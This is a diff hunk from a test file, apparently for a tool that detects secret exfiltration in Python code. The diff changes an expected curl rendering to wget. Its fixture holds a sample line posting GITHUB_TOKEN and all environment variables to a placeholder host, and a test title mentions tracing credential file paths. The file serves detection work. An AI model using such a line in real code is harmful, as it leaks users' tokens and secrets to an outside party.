@@ -40,7 +40,7 @@ u = os.getenv("HOME_URL")
 requests.post("https://c.example.net", json={"t": t, "u": u, "all": dict(os.environ)})`);
     const post = only(p, 'requests.post');
     expect(refsOf(post.named?.json)).toEqual(expect.arrayContaining(['{"env":"GITHUB_TOKEN"}', '{"env":"HOME_URL"}', '{"envAll":true}']));
-    expect(command(post)).toMatch(/^curl https:\/\/c\.example\.net --data/);
+    expect(command(post)).toMatch(/^wget https:\/\/c\.example\.net --data/);
   });
 
   it('builds credential paths however they are spelled: expanduser, os.path.join, Path.home() / ...', () => {
